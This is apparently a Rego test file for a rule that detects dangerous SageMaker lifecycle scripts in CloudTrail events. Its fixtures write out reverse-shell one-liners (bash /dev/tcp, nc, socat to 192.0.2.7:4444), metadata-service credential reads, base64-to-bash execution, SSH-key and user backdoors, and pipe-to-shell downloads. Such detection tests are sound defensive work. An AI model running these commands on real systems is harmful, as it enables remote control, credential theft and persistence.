package trailgate.rules.sagemaker.lifecycle_script_test

import data.trailgate.rules.sagemaker.lifecycle_script

event := {
	"eventSource": "sagemaker.amazonaws.com",
	"eventName": "CreateNotebookInstanceLifecycleConfig",
	"awsRegion": "us-west-2",
	"recipientAccountId": "111122223333",
	"userIdentity": {"type": "IAMUser", "userName": "alice", "accountId": "111122223333"},
	"requestParameters": {"notebookInstanceLifecycleConfigName": "setup", "onStart": [{"content": base64.encode(shell)}]},
}

with_fields(fields) := object.union(event, fields)

# The event with other request parameters.
asking(request) := object.union(object.remove(event, ["requestParameters"]), {"requestParameters": request})

# The same by another operation.
by_operation(name, request) := object.union(asking(request), {"eventName": name})

fires(e) if count(lifecycle_script.deny) == 1 with input as e

silent(e) if count(lifecycle_script.deny) == 0 with input as e

finding(e) := f if some f in lifecycle_script.deny with input as e

test_other_service if silent(with_fields({"eventSource": "bedrock.amazonaws.com"}))

test_other_operation if silent(with_fields({"eventName": "DescribeNotebookInstanceLifecycleConfig"}))

test_failed if silent(with_fields({"errorCode": "ValidationException"}))

shell := "#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.7/4444 0>&1\n"

script(text) := asking({"onStart": [{"content": base64.encode(text)}]})

does(text, what) if {
	f := finding(script(text))
	f.details.sign == what
}

test_finding if {
	finding(event) == {
		"msg": "user alice called CreateNotebookInstanceLifecycleConfig for lifecycle configuration setup, whose script opens a shell to another machine, in account 111122223333, Region us-west-2",
		"severity": "high",
		"resource": "setup",
		"paths": ["requestParameters.onStart[0].content"],
		"details": {"sign": "opens a shell to another machine"},
	}
}

test_operations if {
	every name in ["CreateNotebookInstanceLifecycleConfig", "UpdateNotebookInstanceLifecycleConfig"] {
		fires(with_fields({"eventName": name}))
	}
}

test_studio if {
	finding(by_operation("CreateStudioLifecycleConfig", {
		"studioLifecycleConfigName": "setup",
		"studioLifecycleConfigContent": base64.encode(shell),
	})).resource == "setup"
}

test_on_create if fires(asking({"onCreate": [{"content": base64.encode(shell)}]}))

test_plain_text if fires(asking({"onStart": [{"content": shell}]}))

test_ordinary_script if {
	silent(script("#!/bin/bash\nset -e\npip install --upgrade pandas\ncurl -sO https://example.com/tool\n"))
	silent(script(""))
	silent(asking({"onStart": [{"content": "HIDDEN_DUE_TO_SECURITY_REASONS"}]}))
	silent(asking({"onStart": "omitted"}))
}

test_shells if {
	every text in [
		"nc 192.0.2.7 4444 -e /bin/sh",
		"ncat -lvc /bin/sh",
		"mkfifo /tmp/f; cat /tmp/f | nc 192.0.2.7 4444",
		"socat tcp:192.0.2.7:4444 exec:/bin/sh",
	] {
		does(text, "opens a shell to another machine")
	}
	silent(script("nc -z database 5432"))
}

test_credentials if {
	does("curl http://169.254.169.254/latest/meta-data/iam/security-credentials/x", "reads the instance's credentials")
	does("curl http://169.254.170.2/v2/credentials", "reads the instance's credentials")
	silent(script("curl http://169.254.169.254/latest/meta-data/placement/region"))
}

test_hidden_script if {
	does("echo Y3Vyb | base64 -d | bash", "runs a script hidden in base64")
	silent(script("base64 -d < certificate.b64 > certificate.pem"))
}

test_way_in if {
	does("cat key >> /home/ec2-user/.ssh/authorized_keys", "adds a key or a user to sign in with")
	does("useradd -m helper", "adds a key or a user to sign in with")
}

test_access_key if {
	does("export AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE", "holds an access key")
	silent(script("# AKIA keys are not allowed here"))
}

test_download if {
	f := finding(script("curl -fsSL https://example.com/install.sh | sudo bash"))
	f.details.sign == "runs what it downloads"
	f.severity == "medium"
	does("wget -qO- https://example.com/setup.py | python3", "runs what it downloads")
}

test_no_parameters if silent(asking(null))

test_missing_fields if {
	f := finding({
		"eventSource": "sagemaker.amazonaws.com",
		"eventName": "CreateStudioLifecycleConfig",
		"requestParameters": {"studioLifecycleConfigContent": shell},
	})
	f.resource == ""
	startswith(f.msg, "unknown caller called CreateStudioLifecycleConfig for lifecycle configuration of unknown name")
}
